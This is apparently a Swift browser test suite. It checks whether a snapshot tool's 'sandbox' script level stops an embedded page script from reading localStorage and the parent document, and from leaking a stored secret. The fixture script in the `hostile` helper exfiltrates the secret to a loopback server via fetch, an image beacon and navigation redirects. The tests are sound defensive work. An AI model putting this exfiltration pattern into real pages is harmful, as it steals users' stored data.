import Foundation
import TestSupport
import Testing

@testable import BrowserProof

extension BrowserSuites {
    /// The reach of a snapshot's scripts at each level, in both engines.
    @Suite struct SealedScriptTests {
        /// A page whose script reads what another file has stored and tries to leave with it: by a request, by the window
        /// around it and by itself. The last takes it away, so what it saw is told before.
        private static func hostile(_ server: LoopbackServer) -> String {
            """
            <!doctype html><title>Hostile</title><a id="jump" href="#far">down</a>
            <p style="height:5000px">tall</p><p id="far">far</p>
            <script>
            var away = "\(server.origin)", seen = { storage: "", parent: "", jumped: false };
            try { seen.storage = String(localStorage.getItem("secret")) } catch (error) { seen.storage = "refused" }
            try { seen.parent = String(parent.document.title) } catch (error) { seen.parent = "refused" }
            function tell() { parent.postMessage(seen, "*") }
            setInterval(tell, 20);
            try { fetch(away + "/fetch?" + seen.storage).catch(function () {}) } catch (error) {}
            new Image().src = away + "/image?" + seen.storage;
            setTimeout(function () { document.getElementById("jump").click() }, 100);
            setTimeout(function () { seen.jumped = scrollY > 1000; tell() }, 400);
            setTimeout(function () { try { top.location = away + "/top?" + seen.storage } catch (error) {} }, 600);
            setTimeout(function () { location = away + "/self?" + seen.storage }, 900);
            </script>
            """
        }

        /// The sealed page, and the page that stores the secret.
        private struct Sample {
            let folder: TestFolder
            let server: LoopbackServer
            var sealed: String { URL(fileURLWithPath: folder["page.html"]).absoluteString }
            var store: String { URL(fileURLWithPath: folder["store.html"]).absoluteString }

            init(_ level: String) throws {
                folder = try TestFolder()
                server = try LoopbackServer()
                server.route("/", .text(SealedScriptTests.hostile(server)))
                try folder.write(
                    "<!doctype html><title>Other</title><script>localStorage.setItem('secret', 'leaked')</script>",
                    to: "store.html")
                let arguments = [
                    "snapshot", server.url("/"), "-o", "page.html", "--no-cache", "--scripts", level,
                ]
                let outcome = try SitegenBinary.command(arguments, in: folder.path).run()
                #expect(outcome.code == 0, "\(outcome)")
                server.forgetRequests()
            }
        }

        private static let listen =
            "(window.addEventListener('message', e => { window.told = JSON.stringify(e.data) }), 1)"

        @Test(.needs(.chromium)) func sandboxInChromiumBlocksReadingAndNavigation() async throws {
            let browser = try await TestBrowser.start()
            let sample = try Sample("sandbox")
            let page = try await browser.page()
            try await page.open(sample.store)
            try await page.open(sample.sealed)
            try await page.evaluate(Self.listen)
            try await page.expect("/\"jumped\":true/.test(window.told)")
            #expect(
                try await page.text("window.told").contains("\"storage\":\"refused\",\"parent\":\"refused\""))
            // The last attempt is due 900 ms after the page was opened, and a blocked one leaves no trace to wait for.
            try await Task.sleep(for: .seconds(1.5))
            #expect(try await page.text("location.href") == sample.sealed)
            #expect(sample.server.requests.isEmpty, "\(sample.server.requests.map(\.target))")
        }

        /// The counterpart: the same page, kept as it is, gets away with the secret.
        @Test(.needs(.chromium)) func aKeptScriptInChromiumLeavesWithWhatItReads() async throws {
            let browser = try await TestBrowser.start()
            let sample = try Sample("keep")
            let page = try await browser.page()
            var targets: [String] = []
            // Chromium gives a page that asks while it is read an empty storage now and then.
            for _ in 0..<5 where !targets.contains(where: { $0.hasSuffix("?leaked") }) {
                try await page.open(sample.store)
                try await page.open(sample.sealed)
                try waitUntil("the page leaves") { !sample.server.requests.isEmpty }
                targets += sample.server.requests.map(\.target)
                sample.server.forgetRequests()
            }
            #expect(targets.contains("/top?leaked") || targets.contains("/self?leaked"), "\(targets)")
            #expect(!targets.contains { $0.hasPrefix("/fetch") || $0.hasPrefix("/image") })
        }

        @Test(.needs(.webKit)) func sandboxInWebKitBlocksReadingAndNavigation() async throws {
            let sample = try Sample("sandbox")
            let session = try await session()
            try await open(sample.store, session)
            try await open(sample.sealed, session)
            _ = try await value(Self.listen, session)
            var told = ""
            try await waitUntil("the page has jumped") {
                told = try await value("window.told || ''", session).text ?? ""
                return told.contains("\"jumped\":true")
            }
            #expect(told == "{\"storage\":\"refused\",\"parent\":\"refused\",\"jumped\":true}")
            // The last attempt is due 900 ms after the page was opened, and a blocked one leaves no trace to wait for.
            try await Task.sleep(for: .seconds(1.5))
            #expect(try await value("location.href", session).text == sample.sealed)
            #expect(session.proxy.takeRequests().filter { $0.contains("127.0.0.1") }.isEmpty)
            #expect(sample.server.requests.isEmpty, "\(sample.server.requests.map(\.target))")
        }

        @Test(.needs(.webKit)) func aKeptScriptInWebKitReadsWhatOthersStored() async throws {
            let sample = try Sample("keep")
            let session = try await session()
            try await open(sample.store, session)
            try await open(sample.sealed, session)
            var targets: [String] = []
            try waitUntil("the page asks for an address with the secret") {
                targets += session.proxy.takeRequests() + sample.server.requests.map(\.target)
                return targets.contains { $0.contains("leaked") }
            }
        }

        /// The gate opens a page in a browser. A request that the policy of a sandbox refuses is no reason against the page.
        @Test(.needs(.chromium), arguments: [("sandbox", 0), ("keep", 2)] as [(String, Int32)])
        func requestsThatASandboxRefusesPassTheGate(level: String, code: Int32) throws {
            let folder = try TestFolder()
            try folder.write(
                "<!doctype html><title>Asks</title><p>a</p><script>new Image().src = 'https://x.test/' + 1</script>",
                to: "asks.html")
            var command = try SitegenBinary.command(
                ["snapshot", "asks.html", "-o", "page.html", "--scripts", level, "--browser"], in: folder.path
            )
            command.limit = 400
            let outcome = try command.run()
            #expect(outcome.code == code, "\(outcome)")
            #expect(folder.has("page.html") == (code == 0))
        }

        /// Data by constant addresses, asked for in several ways, without the server.
        @Test(.needs(.chromium), arguments: ["sandbox", "keep"])
        func dataIsAnsweredFromTheFile(_ level: String) async throws {
            let browser = try await TestBrowser.start()
            let folder = try TestFolder()
            let server = try LoopbackServer()
            server.route("/data/a.json", .text("{\"value\":\"one\"}", type: "application/json"))
            server.route("/data/b.csv", .text("x,y\n1,2\n", type: "text/csv"))
            server.route("/data/c.bin", LoopbackAnswer(type: "application/wasm", body: [0, 0x61, 0xFF]))
            server.route(
                "/",
                .text(
                    """
                    <!doctype html><title>Data</title><script>
                    var seen = [], d3 = { csv: function (url) { return fetch(url).then(r => r.text()) } };
                    fetch("data/a.json").then(r => r.json()).then(j => seen.push(j.value));
                    d3.csv("data/b.csv").then(t => seen.push(t.trim()));
                    var request = new XMLHttpRequest();
                    request.open("GET", "/data/a.json");
                    request.onload = () => seen.push(request.status + request.responseText);
                    request.send();
                    fetch("data/c.bin").then(r => r.arrayBuffer()).then(b => seen.push("f" + new Uint8Array(b)));
                    var binary = new XMLHttpRequest();
                    binary.open("GET", "data/c.bin");
                    binary.responseType = "arraybuffer";
                    binary.onload = () => seen.push("x" + new Uint8Array(binary.response));
                    binary.send();
                    setInterval(() => parent.postMessage(seen.slice().sort().join("|"), "*"), 20);
                    </script>
                    """))
            let arguments = [
                "snapshot", server.url("/"), "-o", "page.html", "--no-cache", "--scripts", level,
            ]
            let outcome = try SitegenBinary.command(arguments, in: folder.path).run()
            #expect(outcome.code == 0, "\(outcome)")
            server.close()
            let page = try await browser.page()
            try await page.open(folder["page.html"])
            try await page.evaluate(Self.listen)
            try await page.expect("window.told && JSON.parse(told).split('|').length === 5")
            #expect(
                try await page.text("JSON.parse(told)")
                    == "200{\"value\":\"one\"}|f0,97,255|one|x,y\n1,2|x0,97,255")
        }

        /// Read as HTML, an XHTML page with `<title/>` is blank, and a text with a script runs it.
        @Test func xhtmlAndTextAreShown() async throws {
            let browser = try await TestBrowser.start()
            let folder = try TestFolder()
            let server = try LoopbackServer()
            server.route("/d.json", .text("<&>", type: "application/json"))
            server.route(
                "/x",
                .text(
                    """
                    <html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body><p>Shown</p><script>
                    let got = "";
                    fetch("d.json").then(r => r.text()).then(text => { got = text; });
                    setInterval(function () { parent.postMessage(document.contentType + " " + document.body.offsetHeight
                      + " " + got + document.querySelector("p").textContent, "*") }, 20);</script></body></html>
                    """, type: "application/xhtml+xml"))
            let text = "<!doctype html><script>document.title = 'ran'</script> a < b\n"
            server.route("/t", .text(text, type: "text/plain"))
            for (path, name) in [("/x", "x.html"), ("/t", "t.html")] {
                let arguments = [
                    "snapshot", server.url(path), "-o", name, "--no-cache", "--scripts", "sandbox",
                    "--no-banner",
                ]
                let outcome = try SitegenBinary.command(arguments, in: folder.path).run()
                #expect(outcome.code == 0, "\(outcome)")
            }
            let page = try await browser.page()
            try await page.open(folder["x.html"])
            try await page.evaluate(Self.listen)
            try await page.expect("/xhtml\\+xml [1-9]\\d* <&>Shown/.test(window.told)")
            try await page.open(folder["t.html"])
            #expect(try await page.text("document.querySelector('pre').textContent") == text)
            #expect(try await page.text("document.title") != "ran")
        }

        private func session() async throws -> WebKitSession {
            try await WebKitSession(try BrowserSearch.webKit(), limit: 60)
        }

        private func open(_ address: String, _ session: WebKitSession) async throws {
            try await session.call("POST", "/url", ["url": .string(address)], seconds: 60)
        }

        private func value(_ expression: String, _ session: WebKitSession) async throws -> JSONNode {
            try await session.call(
                "POST", "/execute/sync", ["script": .string("return " + expression), "args": []], seconds: 60)
        }
    }
}
